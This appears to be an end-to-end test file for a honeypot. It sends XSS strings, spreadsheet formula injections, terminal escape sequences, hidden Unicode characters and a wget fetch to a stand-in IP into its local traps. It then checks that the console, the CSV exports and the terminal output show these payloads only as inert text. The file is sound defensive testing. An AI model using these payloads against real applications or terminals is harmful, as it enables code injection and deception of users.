import { createConnection } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { type Browser, chromium, type Page } from 'playwright-core';
import { Client } from 'ssh2';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { execute, logIn } from './attacker-client.ts';
import { findChromium } from './chromium.ts';
import {
  createKey,
  eventually,
  freshDataDirectory,
  type Instance,
  removeDataDirectory,
  run,
  startInstance,
} from './instance.ts';

/**
 * What attackers write into every field that can carry it, through real connections to real traps, and then looked at on
 * every page, in every export and in the terminal: nothing of it may act anywhere.
 */

const SCRIPTS = [
  '<img src=x onerror="window.__acted=1;alert(1)">',
  '"><script>window.__acted=1;alert(2)</script>',
  "'-alert(3)-'",
  '<svg/onload=alert(4)>',
  'javascript:alert(5)',
  "{{constructor.constructor('alert(6)')()}}",
  '<a href="javascript:alert(7)">x</a>',
];
const FORMULAS = ['=HYPERLINK("http://192.0.2.66","x")', "+cmd|' /C calc'!A0", '-2+3+cmd', '@SUM(1+1)', '\t=1+1'];
const TERMINAL = ['\u001b]0;owned\u0007\u001b[31mred', '\u001b]52;c;b3duZWQ=\u0007', '\u009b2J'];
const HIDDEN = ['\u202egnp.exe\u2066x', '\u200b\u2060zero', 'a\u0000b'];
const PAYLOADS = [...SCRIPTS, ...FORMULAS, ...TERMINAL, ...HIDDEN];

const PASSWORD = 'admin123';
const EMAIL = 'ada@example.org';
const CONSOLE_PASSWORD = 'look at every page';
const dataDirectory = freshDataDirectory();
let instance: Instance;
let browser: Browser;
let sessionIds: string[] = [];
let key: string | null = null;

beforeAll(async () => {
  instance = await startInstance(dataDirectory);
  browser = await chromium.launch({ executablePath: findChromium(), args: ['--no-sandbox'] });
  await attack();
}, 300_000);

afterAll(async () => {
  await browser?.close();
  await instance?.stop();
  removeDataDirectory(dataDirectory);
});

const pageSchema = z.object({ items: z.array(z.looseObject({ id: z.string() })), nextCursor: z.string().nullable() });

/** Every payload in every field of every trap. */
async function attack(): Promise<void> {
  const ssh = instance.port('ssh');
  await Promise.all(PAYLOADS.map((payload) => tryPassword(ssh, payload, payload)));
  const line = (text: string) => text.replace(/[\r\n\0]/g, ' ');
  await Promise.all(
    PAYLOADS.flatMap((payload) => [
      sendRaw(ssh, `SSH-2.0-${line(payload)}\r\n`),
      sendRaw(instance.port('telnet'), `${payload}\r\n${payload}\r\n`),
      sendRaw(
        instance.port('http'),
        `POST /${encodeURI(payload)}?q=${payload.replace(/[\s\0]/g, '+')} HTTP/1.1\r\nHost: ${line(payload)}\r\n` +
          `User-Agent: ${line(payload)}\r\nReferer: ${line(payload)}\r\n` +
          `Authorization: Basic ${Buffer.from(`${payload}:${payload}`).toString('base64')}\r\n` +
          `Content-Length: ${Buffer.byteLength(payload)}\r\n\r\n${payload}`,
      ),
    ]),
  );
  const client = await logIn({ port: ssh, from: '127.0.0.1', username: 'root', password: PASSWORD });
  for (const payload of PAYLOADS) {
    const word = payload.replaceAll("'", `'\\''`).replaceAll('\0', '');
    await execute(client, `echo '${word}'; wget 'http://192.0.2.1/${word}'; : > '/tmp/${word.replaceAll('/', '_')}'`);
    await upload(client, `/tmp/${payload.replaceAll('/', '_').replaceAll('\0', '')}`, Buffer.from(payload));
  }
  await typeInShell(client);
  client.end();
}

function tryPassword(port: number, username: string, password: string): Promise<void> {
  return new Promise((resolve) => {
    const client = new Client();
    client.on('error', () => resolve());
    client.on('close', () => resolve());
    client.on('ready', () => client.end());
    client.connect({ host: '127.0.0.1', port, username, password, readyTimeout: 20_000 });
  });
}

function sendRaw(port: number, text: string): Promise<void> {
  return new Promise((resolve) => {
    const socket = createConnection({ host: '127.0.0.1', port });
    socket.setTimeout(1_500, () => socket.destroy());
    socket.on('error', () => resolve());
    socket.on('close', () => resolve());
    socket.on('data', () => undefined);
    socket.write(text);
  });
}

/** A file name that is a payload; the trap may refuse it, which is an answer too. */
function upload(client: Client, path: string, content: Buffer): Promise<void> {
  return new Promise((resolve) => {
    client.sftp((error, sftp) => {
      if (error !== undefined) return resolve();
      sftp.writeFile(path, content, () => {
        sftp.end();
        resolve();
      });
    });
  });
}

/** A terminal whose name, environment and lines are payloads: the recording holds them. */
async function typeInShell(client: Client): Promise<void> {
  await new Promise<void>((resolve, reject) => {
    client.shell(
      { term: SCRIPTS[0] ?? '', cols: 100, rows: 30 },
      { env: { LANG: SCRIPTS[1] ?? '', LC_ALL: FORMULAS[0] ?? '' } },
      (error, channel) => {
        if (error !== undefined) return reject(error);
        channel.on('data', () => undefined);
        channel.on('close', () => resolve());
        for (const payload of PAYLOADS)
          channel.write(`printf '%b' '${payload.replaceAll("'", '').replaceAll('\0', '')}'\r`);
        channel.write(`printf '\\033]0;owned\\007\\033[2J'\rexit\r`);
      },
    );
  });
}

describe('bytes that attackers wrote', () => {
  it('are in the log, in every field that was attacked', async () => {
    sessionIds = await eventually('the attacks in the API', async () => {
      const page = pageSchema.parse(await instance.get('/api/v1/sessions?limit=500'));
      return page.items.length >= PAYLOADS.length * 3 ? page.items.map(({ id }) => id) : null;
    });
    await sleep(3_000);
    for (const kind of [
      'credential.tried',
      'client.identified',
      'http.requested',
      'command.entered',
      'file.uploaded',
    ]) {
      const events = JSON.stringify(await instance.get(`/api/v1/events?kind=${kind}&limit=500`));
      expect(events.includes('__acted'), kind).toBe(true);
    }
  }, 120_000);

  it('act on no page of the console', async () => {
    const setUpLink = /http:\S+\/setup#token=\S+/.exec(instance.messages())?.[0] ?? '';
    const context = await browser.newContext({ viewport: { width: 1440, height: 900 } });
    await context.addInitScript(() => {
      document.addEventListener('securitypolicyviolation', ({ violatedDirective, sample }) => {
        console.error(`policy: ${violatedDirective} ${sample}`);
      });
    });
    const page = await context.newPage();
    const wrong: string[] = [];
    const host = new URL(instance.url).host;
    page.on('dialog', (dialog) => {
      wrong.push(`dialog on ${page.url()}: ${dialog.message()}`);
      void dialog.dismiss();
    });
    page.on('pageerror', (error) => wrong.push(`uncaught on ${page.url()}: ${error.message}`));
    page.on('console', (message) => {
      if (message.type() === 'error' && !message.text().startsWith('Failed to load resource'))
        wrong.push(`error on ${page.url()}: ${message.text()}`);
    });
    page.on('request', (request) => {
      const url = new URL(request.url());
      if (!['data:', 'blob:'].includes(url.protocol) && url.host !== host) wrong.push(`request to ${request.url()}`);
    });
    await page.goto(setUpLink);
    await page.getByLabel('Name').fill('Ada');
    await page.getByLabel('E-mail').fill(EMAIL);
    await page.getByLabel('Password').fill(CONSOLE_PASSWORD);
    await page.getByRole('button', { name: 'Create and sign in' }).click();
    await page.waitForURL((url) => url.pathname !== '/setup');
    for (const path of await pagesOf(page)) {
      await page.goto(instance.url + path);
      await page.locator('h1').first().waitFor({ timeout: 15_000 });
      await page
        .waitForFunction(() => document.querySelector('.skeleton') === null, undefined, { timeout: 15_000 })
        .catch(() => wrong.push(`${path}: still loading`));
      wrong.push(...(await lookFor(page, path)));
    }
    await context.close();
    expect([...new Set(wrong)]).toEqual([]);
  }, 600_000);

  it('begin no formula in an exported table', async () => {
    for (const list of ['sessions', 'events', 'attackers', 'detections', 'decisions', 'alerts', 'indicators']) {
      const { text, headers } = await download(`/api/v1/${list}/export?format=csv`);
      expect(headers.get('content-disposition'), list).toMatch(/^attachment;/);
      expect(headers.get('x-content-type-options'), list).toBe('nosniff');
      const cells = readCsv(text).flat();
      expect(
        cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell)),
        list,
      ).toEqual([]);
    }
  }, 120_000);

  it('reach a terminal of ours only as what can be seen', () => {
    const outputs = [
      run(dataDirectory, 'session', 'list').stdout,
      ...shownInTerminal().map((id) => run(dataDirectory, 'session', 'show', id).stdout),
    ];
    const control = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
    expect(outputs.filter((output) => control.test(output.replaceAll(/\u001b\[[0-9;]*m/g, '')))).toEqual([]);
  }, 600_000);
});

/** Each is a process of its own. */
const shownSessions = 8;

/** Sessions of every trap, spread over all that there are. */
function shownInTerminal(): string[] {
  const step = Math.max(1, Math.floor(sessionIds.length / shownSessions));
  return sessionIds.filter((_, at) => at % step === 0);
}

/** Every page that has something of an attack on it. */
async function pagesOf(page: Page): Promise<string[]> {
  const links = await page
    .locator('nav a[href^="/"]')
    .evaluateAll((all) => all.map((link) => link.getAttribute('href') ?? ''));
  const tabs = ['replay', 'timeline', 'transcript', 'credentials', 'files', 'detections', 'why', 'raw'];
  const { items } = pageSchema.parse(await instance.get('/api/v1/sessions?withCommands=true&limit=20'));
  const others = sessionIds
    .slice(0, 12)
    .flatMap((id) => ['timeline', 'credentials'].map((tab) => `/sessions/${id}?tab=${tab}`));
  return [
    ...new Set(links),
    '/?kiosk=1',
    `/sessions?${new URLSearchParams({ commandText: SCRIPTS[0] ?? '', triedUsername: HIDDEN[0] ?? '' })}`,
    '/attackers/127.0.0.1',
    ...items.flatMap(({ id }) => tabs.map((tab) => `/sessions/${id}?tab=${tab}`)),
    ...others,
  ];
}

/** What would be there if a payload had become more than text. */
async function lookFor(page: Page, path: string): Promise<string[]> {
  const found = await page.evaluate(() => ({
    acted: '__acted' in window,
    injected: document.querySelectorAll('img[src="x"], svg[onload], script:not([src]), a[href^="javascript:"]').length,
    title: document.title.includes('owned'),
    // The terminal shows a recording as a terminal would.
    hidden: /[\u202a-\u202e\u2066-\u2069\u0000-\u0008\u001b]/.test(
      [...document.querySelectorAll('body *:not(script)')]
        .filter((element) => element.closest('.ap-player') === null)
        .flatMap((element) => [...element.childNodes].filter(({ nodeType }) => nodeType === 3))
        .map(({ textContent }) => textContent ?? '')
        .join(' '),
    ),
  }));
  return Object.entries(found)
    .filter(([, value]) => value !== false && value !== 0)
    .map(([what]) => `${path}: ${what}`);
}

async function download(path: string): Promise<{ text: string; headers: Headers }> {
  key ??= createKey(dataDirectory);
  const response = await fetch(new URL(path, instance.url), { headers: { authorization: `Bearer ${key}` } });
  const text = await response.text();
  expect(response.status, `${path}: ${text.slice(0, 200)}`).toBe(200);
  return { text, headers: response.headers };
}

/** RFC 4180: quoted fields may hold commas, line breaks and doubled quotes. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  const field = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r?\n|$)/gy;
  while (field.lastIndex < text.length) {
    const [, quoted, plain = '', end] = field.exec(text) ?? [];
    if (end === undefined) throw new Error('not CSV');
    row.push(quoted?.replaceAll('""', '"') ?? plain);
    if (end !== ',') {
      rows.push(row);
      row = [];
    }
  }
  return rows;
}
